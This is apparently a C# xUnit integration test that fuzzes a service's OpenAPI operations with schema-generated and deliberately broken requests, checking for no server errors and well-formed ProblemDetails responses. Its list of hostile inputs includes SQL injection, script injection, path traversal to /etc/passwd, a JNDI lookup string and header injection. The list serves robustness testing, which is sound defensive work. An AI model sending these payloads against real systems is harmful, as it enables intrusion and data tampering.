using System.Diagnostics;
using System.Text.Json.Nodes;
using AssetRecovery.IntegrationTests.Infrastructure;
using Xunit.Abstractions;

namespace AssetRecovery.IntegrationTests.Security;

/// <summary>
/// Schema-driven fuzz: for every operation of a service's OpenAPI document, with a token of a role it allows, bodies and
/// parameters generated from its schema and then broken (wrong types, missing members, extreme numbers, hostile strings).
/// No answer may be a 5xx, and every 4xx must be a ProblemDetails. Seeded per operation, so a failure repeats.
/// </summary>
[Collection(SystemCollection.Name)]
public sealed class OpenApiFuzzTests(Infrastructure.Infrastructure infrastructure, ITestOutputHelper output) : IAsyncLifetime
{
    /// <summary>Generated cases per operation: bounded so that a service's run stays well under a minute.</summary>
    private const int BodyCasesPerOperation = 80;
    private const int ParameterCasesPerOperation = 24;

    private TestSystem _system = null!;

    public async Task InitializeAsync() => _system = await TestSystem.StartAsync(infrastructure);

    public async Task DisposeAsync() => await _system.DisposeAsync();

    public static TheoryData<string> Services() => new(ApiSurface.Services);

    [Theory]
    [MemberData(nameof(Services))]
    public async Task No_generated_bad_request_gets_a_5xx_and_every_4xx_is_ProblemDetails(string service)
    {
        var running = RunningService.Start(_system, service);
        var operations = await ApiSurface.OperationsAsync(running);
        var failures = new List<string>();
        var sent = 0;
        var statuses = new SortedDictionary<int, int>();
        var clock = Stopwatch.StartNew();

        foreach (var operation in operations)
        {
            var random = new Random(ApiSurface.Seed(operation.Key));
            var generator = new SchemaFuzzer(operation, random);
            using var client = running.Client(operation.IsAnonymous ? null : operation.Roles![0]);
            var cases = Enumerable.Range(0, ParameterCasesPerOperation).Select(_ => generator.ParameterCase());
            if (operation.BodySchema is not null)
                cases = cases.Concat(Enumerable.Range(0, BodyCasesPerOperation).Select(_ => generator.BodyCase()));

            foreach (var (path, body) in cases)
            {
                using var request = ApiSurface.Request(operation.Method, path, body is null ? null : ApiSurface.Json(body));
                using var response = await client.SendAsync(request);
                sent++;
                var status = (int)response.StatusCode;
                statuses[status] = statuses.GetValueOrDefault(status) + 1;
                var what = $"{operation.Key} as {path} with {ApiSurface.Shorten(body ?? "no body")}";
                if (status >= 500) failures.Add($"{what}: {status} {ApiSurface.Shorten(await response.Content.ReadAsStringAsync())}");
                else if (status >= 400)
                {
                    try { await ApiSurface.AssertProblemAsync(response, what); }
                    catch (Exception e) { failures.Add(e.Message); }
                }
            }
        }

        output.WriteLine($"{service}: {sent} requests over {operations.Count} operations in {clock.Elapsed.TotalSeconds:F1} s; " +
                         $"statuses {string.Join(", ", statuses.Select(s => $"{s.Key}×{s.Value}"))}");
        Assert.True(failures.Count == 0, $"{failures.Count} of {sent} generated requests failed:\n" + string.Join("\n", failures.Take(30)));
        // Not vacuous: the generator did reach past routing and auth into validation.
        Assert.True(statuses.GetValueOrDefault(400) > 0, $"no 400 among {sent} answers: the fuzz never reached validation");
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60), $"the fuzz of {service} took {clock.Elapsed}");
    }
}

/// <summary>Generates bodies and parameters from an operation's schema, then breaks them.</summary>
internal sealed class SchemaFuzzer(ApiOperation operation, Random random)
{
    private static readonly string[] HostileStrings =
    [
        "", " ", "' OR '1'='1' --", "'; DROP TABLE mt_events; --", "\"}]}", "<script>alert(1)</script>", "../../../../etc/passwd",
        "%00", "\u0000", "\u202Eevil", "\uFEFF", "\u200B", "\uD83D\uDE00", "\uFF16\uFF12\uFF12\uFF12", "\u0421NY", "${jndi:ldap://x/a}",
        "{{7*7}}", "NaN", "Infinity", "-0", "1e400", "null", "true", "0x10", "2026-02-30", "9999-12-31T23:59:59Z", "0001-01-01",
        new string('A', 5000), "\r\nX-Injected: 1",
    ];

    private static readonly JsonNode?[] HostileNumbers =
    [
        -1, 0, -0.0001, 0.001, 0.123456789, 1e15, 1e30, 1e300, decimal.MaxValue, long.MinValue, int.MaxValue, 3.5,
    ];

    public (string Path, string? Body) BodyCase()
    {
        var body = Generate(operation.BodySchema!, depth: 0);
        return (operation.SamplePath(), Break(body, 0)?.ToJsonString() ?? "null");
    }

    /// <summary>Hostile path and query values; the body, if any, is a plausible one so the parameters are what is tested.</summary>
    public (string Path, string? Body) ParameterCase()
    {
        // NUL cannot travel in a path (HTTP clients and servers refuse it before any endpoint): it goes in queries and bodies.
        var path = operation.SamplePath((_, parameter) => random.Next(3) == 0 ? null : HostileScalar(parameter["schema"] as JsonObject).Replace("\u0000", "%"));
        var query = operation.Parameters.Where(p => p["in"]?.GetValue<string>() == "query")
            .Where(_ => random.Next(2) == 0)
            .Select(p => $"{p["name"]!.GetValue<string>()}={Uri.EscapeDataString(HostileScalar(p["schema"] as JsonObject))}");
        var queryString = string.Join("&", query);
        var body = operation.BodySchema is { } schema ? Generate(schema, 0)?.ToJsonString() : null;
        return (queryString.Length == 0 ? path : $"{path}?{queryString}", body);
    }

    private string HostileScalar(JsonObject? schema) => random.Next(4) switch
    {
        0 => HostileNumbers[random.Next(HostileNumbers.Length)]!.ToJsonString(),
        1 when schema?["enum"] is JsonArray values && values.Count > 0 => values[random.Next(values.Count)]!.ToString().ToLowerInvariant() + "x",
        _ => HostileStrings[random.Next(HostileStrings.Length)],
    };

    /// <summary>A value of the schema's shape, with random contents (mostly wrong for the domain, which is the point).</summary>
    private JsonNode? Generate(JsonObject schema, int depth)
    {
        schema = operation.Resolve(schema);
        if (schema["oneOf"] is JsonArray oneOf && oneOf.Count > 0) return Generate((JsonObject)oneOf[random.Next(oneOf.Count)]!, depth);
        if (schema["allOf"] is JsonArray allOf && allOf.Count > 0) return Generate((JsonObject)allOf[0]!, depth);
        if (schema["enum"] is JsonArray values && values.Count > 0) return values[random.Next(values.Count)]!.DeepClone();
        var type = TypeOf(schema);
        if (depth > 4) return null;
        return type switch
        {
            "object" => GenerateObject(schema, depth),
            "array" => new JsonArray(Enumerable.Range(0, random.Next(0, 3))
                .Select(_ => schema["items"] is JsonObject items ? Generate(items, depth + 1) : null).ToArray()),
            "integer" => random.Next(-5, 100),
            "number" => Math.Round((decimal)(random.NextDouble() * 1000), random.Next(0, 4)),
            "boolean" => random.Next(2) == 0,
            "string" => schema["format"]?.GetValue<string>() switch
            {
                "uuid" => RandomGuid().ToString(),
                "date-time" => DateTimeOffset.UtcNow.AddDays(-random.Next(1000)).ToString("O"),
                "date" => DateOnly.FromDateTime(DateTime.UtcNow.AddDays(-random.Next(1000))).ToString("yyyy-MM-dd"),
                _ => random.Next(3) == 0 ? HostileStrings[random.Next(HostileStrings.Length)] : $"fuzz-{random.Next(100000)}",
            },
            _ => null,
        };
    }

    private Guid RandomGuid()
    {
        var bytes = new byte[16];
        random.NextBytes(bytes);
        return new Guid(bytes);
    }

    private JsonObject GenerateObject(JsonObject schema, int depth)
    {
        var result = new JsonObject();
        foreach (var (name, property) in schema["properties"] as JsonObject ?? [])
            if (property is JsonObject propertySchema) result[name] = Generate(propertySchema, depth + 1);
        return result;
    }

    /// <summary>One or more breakages: a member removed, its type changed, an extreme value, or the whole body replaced.</summary>
    private JsonNode? Break(JsonNode? node, int depth)
    {
        if (node is JsonObject obj && obj.Count > 0 && depth < 3)
        {
            var names = obj.Select(p => p.Key).ToList();
            var breaks = 1 + random.Next(Math.Min(3, names.Count));
            for (var i = 0; i < breaks; i++)
            {
                var name = names[random.Next(names.Count)];
                switch (random.Next(6))
                {
                    case 0: obj.Remove(name); break;
                    case 1: obj[name] = null; break;
                    case 2: obj[name] = WrongType(obj[name]); break;
                    case 3: obj[name] = HostileNumbers[random.Next(HostileNumbers.Length)]!.DeepClone(); break;
                    case 4: obj[name] = HostileStrings[random.Next(HostileStrings.Length)]; break;
                    default:
                        if (obj[name] is { } child) obj[name] = Break(child.DeepClone(), depth + 1);
                        else obj[name] = new JsonObject { ["unexpected"] = new JsonArray(1, "two", null) };
                        break;
                }
            }
            return obj;
        }
        if (node is JsonArray array && array.Count > 0 && depth < 3)
        {
            var index = random.Next(array.Count);
            var item = array[index]?.DeepClone();
            array[index] = Break(item, depth + 1);
            return array;
        }
        return random.Next(4) switch
        {
            0 => null,
            1 => new JsonArray(),
            2 => "not an object",
            _ => new JsonObject(),
        };
    }

    private JsonNode? WrongType(JsonNode? value) => value?.GetValueKind() switch
    {
        System.Text.Json.JsonValueKind.String => random.Next(2) == 0 ? 12345 : new JsonArray("a"),
        System.Text.Json.JsonValueKind.Number => random.Next(2) == 0 ? "12345" : new JsonObject(),
        System.Text.Json.JsonValueKind.True or System.Text.Json.JsonValueKind.False => "yes",
        System.Text.Json.JsonValueKind.Array => "not a list",
        System.Text.Json.JsonValueKind.Object => 42,
        _ => false,
    };

    private static string? TypeOf(JsonObject schema) => schema["type"] switch
    {
        JsonValue single => single.GetValue<string>(),
        JsonArray many => many.Select(t => t?.GetValue<string>()).FirstOrDefault(t => t != "null"),
        _ => schema["properties"] is not null ? "object" : null,
    };
}
